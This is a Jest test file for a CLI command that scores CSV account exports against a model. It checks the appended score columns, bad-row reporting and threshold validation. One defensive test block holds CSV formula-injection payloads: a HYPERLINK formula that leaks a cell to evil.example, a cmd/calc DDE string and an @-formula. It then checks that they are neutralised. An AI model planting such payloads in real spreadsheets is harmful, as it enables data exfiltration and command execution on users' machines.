import { describe, it, expect, beforeAll } from '@jest/globals';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { parseJsonOutput, runCommand } from './run-command.js';
import { tempDir } from './fixtures.js';
import { smallOrgWithModel } from './demo-org.js';
import { FIXTURE_MODEL_VERSION } from '../fixtures/fixture-org.js';
import { defaultFeatureSpec, requiredAccountFields } from '../../src/features/index.js';
import ScoreCsv, { ScoreCsvResult } from '../../src/commands/score/csv.js';

describe('sf score csv', () => {
  let dir: string;
  let modelFile: string;
  let good: string;
  let bad: string;
  let header: string[];
  /** the file line on which data row i (0-based) starts: notes may span lines */
  let lineOf: number[];
  beforeAll(async () => {
    dir = tempDir('score-csv');
    const made = await smallOrgWithModel(dir);
    modelFile = made.modelFile;
    // An export of 30 accounts from the generated org, with an extra column the model ignores first.
    const fields = requiredAccountFields(defaultFeatureSpec()).filter((f) => f !== 'Id');
    header = ['Owner Notes', 'Name', ...fields.filter((f) => f !== 'Name'), 'ContactCount'];
    const accounts = readFileSync(path.join(made.orgDir, 'Account.ndjson'), 'utf8').trim().split('\n').slice(0, 30).map((l) => JSON.parse(l) as Record<string, unknown>);
    const rows = accounts.map((a, i) => header.map((h) => (h === 'Owner Notes' ? `keep ${i}` : h === 'ContactCount' ? String(i % 7) : a[h] === null || a[h] === undefined ? '' : String(a[h]))));
    good = path.join(dir, 'accounts.csv');
    writeFileSync(good, stringify([header, ...rows]));
    lineOf = [];
    let at = 1 + (stringify([header]).match(/\n/g) ?? []).length;
    for (const r of rows) {
      lineOf.push(at);
      at += (stringify([r]).match(/\n/g) ?? []).length;
    }
    // 2nd data row: "12k" revenue; 5th: a count that is not a count
    const badRows = rows.map((r) => [...r]);
    badRows[1][header.indexOf('AnnualRevenue')] = '12k';
    badRows[4][header.indexOf('ContactCount')] = '-2';
    bad = path.join(dir, 'bad.csv');
    writeFileSync(bad, stringify([header, ...badRows]));
  });

  it('--json: appends score, tier, percentile, reasons to every original row, columns and order kept', async () => {
    const output = path.join(dir, 'scored.csv');
    const run = await runCommand(ScoreCsv, ['--input', good, '--output', output, '--model', modelFile, '--json']);
    expect(run.error).toBeUndefined();
    const result = ScoreCsvResult.parse(parseJsonOutput(run.stdout).result);
    expect(result).toMatchObject({ rows: 30, scored: 30, badRows: 0, errors: [], modelVersion: FIXTURE_MODEL_VERSION });
    expect(result.tiers.Hot + result.tiers.Warm + result.tiers.Cold).toBe(30);
    const out = parse(readFileSync(output, 'utf8')) as string[][];
    expect(out[0]).toEqual([...header, 'Account_Score__c', 'Account_Score_Tier__c', 'Account_Score_Percentile__c', 'Account_Score_Reasons__c', 'Account_Score_Error__c']);
    const input = parse(readFileSync(good, 'utf8')) as string[][];
    for (let i = 1; i <= 30; i++) {
      expect(out[i].slice(0, header.length)).toEqual(input[i]);
      const [score, tier, pct, reasons, error] = out[i].slice(header.length);
      const s = Number(score);
      expect(s).toBeGreaterThanOrEqual(0);
      expect(tier).toBe(s >= 70 ? 'Hot' : s >= 40 ? 'Warm' : 'Cold');
      expect(Number(pct)).toBeGreaterThanOrEqual(1);
      expect(reasons).toMatch(/^[^;]+: .+ \([+-]\d+\)(; [^;]+: .+ \([+-]\d+\)){0,2}$/);
      expect(error).toBe('');
    }
    expect(out.slice(1).some((r) => r[header.length + 2] === '100')).toBe(true);
  });

  it('refuses a file with bad rows, naming each line and field, and writes nothing', async () => {
    const output = path.join(dir, 'not-written.csv');
    const run = await runCommand(ScoreCsv, ['--input', bad, '--output', output, '--model', modelFile]);
    expect(run.error?.message).toContain('2 of 30 rows can\'t be scored');
    expect(run.error?.message).toContain(`line ${lineOf[1]} (AnnualRevenue): "12k" is not a plain number`);
    expect(run.error?.message).toContain(`line ${lineOf[4]} (ContactCount): "-2" is not a count`);
    expect(existsSync(output)).toBe(false);
  });

  it('--allow-bad-rows keeps bad rows in place with an error and no score, and uses the given thresholds', async () => {
    const output = path.join(dir, 'with-bad.csv');
    const run = await runCommand(ScoreCsv, ['--input', bad, '--output', output, '--model', modelFile, '--allow-bad-rows', '--hot', '90', '--warm', '10', '--json']);
    expect(run.error).toBeUndefined();
    const result = ScoreCsvResult.parse(parseJsonOutput(run.stdout).result);
    expect(result).toMatchObject({ rows: 30, scored: 28, badRows: 2 });
    expect(result.errors.map((e) => e.line)).toEqual([lineOf[1], lineOf[4]]);
    const out = parse(readFileSync(output, 'utf8')) as string[][];
    expect(out).toHaveLength(31);
    expect(out[2].slice(header.length)).toEqual(['', '', '', '', expect.stringMatching(new RegExp(`^line ${lineOf[1]}: AnnualRevenue: "12k"`))]);
    expect(out[5][header.length + 4]).toMatch(new RegExp(`^line ${lineOf[4]}: ContactCount`));
    expect(out[1][0]).toBe('keep 0');
    for (const r of out.slice(1)) {
      if (r[header.length] === '') continue;
      const s = Number(r[header.length]);
      expect(r[header.length + 1]).toBe(s >= 90 ? 'Hot' : s >= 10 ? 'Warm' : 'Cold');
    }
  });

  describe('hostile and broken input', () => {
    let hostile: string;
    let brokenLine: number;
    const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
    const CALC = "+cmd|' /C calc'!A0";
    beforeAll(() => {
      const input = parse(readFileSync(good, 'utf8')) as string[][];
      const rows = input.slice(1).map((r) => [...r]);
      rows[0][header.indexOf('Name')] = HYPERLINK;
      rows[1][header.indexOf('Owner Notes')] = CALC;
      rows[3][header.indexOf('AnnualRevenue')] = '-3.5';
      rows[3][header.indexOf('Owner Notes')] = '@SUM(1+1)';
      // a row on one line whose first cell opens a quote that is never closed on that line
      const i = lineOf.findIndex((l, k) => k > 4 && k < 29 && lineOf[k + 1] - l === 1);
      brokenLine = lineOf[i];
      const lines = stringify([header, ...rows]).split('\n');
      expect(lines[brokenLine - 1].startsWith(`keep ${i},`)).toBe(true);
      lines[brokenLine - 1] = `"${lines[brokenLine - 1]}`;
      hostile = path.join(dir, 'hostile.csv');
      writeFileSync(hostile, lines.join('\n'));
    });

    it('an unclosed quote is reported on its line, the rows after it are read, and nothing is written', async () => {
      const output = path.join(dir, 'hostile-refused.csv');
      const run = await runCommand(ScoreCsv, ['--input', hostile, '--output', output, '--model', modelFile]);
      expect(run.error?.message).toContain("1 of 30 rows can't be scored");
      expect(run.error?.message).toMatch(new RegExp(`line ${brokenLine}: unbalanced quote.*reading resumed on line ${brokenLine + 1}`));
      expect(existsSync(output)).toBe(false);
    });

    it('--allow-bad-rows: counts add up, the broken row keeps its place, formulas are neutralised and numbers kept', async () => {
      const output = path.join(dir, 'hostile.out.csv');
      const run = await runCommand(ScoreCsv, ['--input', hostile, '--output', output, '--model', modelFile, '--allow-bad-rows', '--json']);
      expect(run.error).toBeUndefined();
      const result = ScoreCsvResult.parse(parseJsonOutput(run.stdout).result);
      expect(result).toMatchObject({ rows: 30, scored: 29, badRows: 1 });
      expect(result.rows).toBe(result.scored + result.badRows);
      const text = readFileSync(output, 'utf8');
      const out = parse(text) as string[][];
      expect(out).toHaveLength(31);
      expect(out[1][header.indexOf('Name')]).toBe(`'${HYPERLINK}`);
      expect(out[2][0]).toBe(`'${CALC}`);
      expect(out[4][header.indexOf('AnnualRevenue')]).toBe('-3.5');
      expect(out[4][0]).toBe(`'@SUM(1+1)`);
      const broken = out.findIndex((r) => r[header.length + 4].startsWith(`line ${brokenLine}:`));
      expect(broken).toBeGreaterThan(5);
      expect(out[broken + 1][0]).toBe(`keep ${broken}`);
      for (const r of out) for (const c of r) expect(c).not.toMatch(/^[=+@\t\r]/);
    });
  });

  it('refuses a header without the columns the model reads', async () => {
    const noCols = path.join(dir, 'no-cols.csv');
    writeFileSync(noCols, 'Name,Website\nAcme,acme.com\n');
    const run = await runCommand(ScoreCsv, ['--input', noCols, '--output', path.join(dir, 'x.csv'), '--model', modelFile]);
    expect(run.error?.message).toMatch(/line 1 \(AnnualRevenue\): missing required column "AnnualRevenue"/);
  });

  it('rejects warm >= hot before reading anything', async () => {
    const run = await runCommand(ScoreCsv, ['--input', good, '--output', path.join(dir, 'y.csv'), '--hot', '40', '--warm', '60']);
    expect(run.error?.message).toMatch(/Hot threshold \(40\) must be greater than the Warm threshold \(60\)/);
  });
});
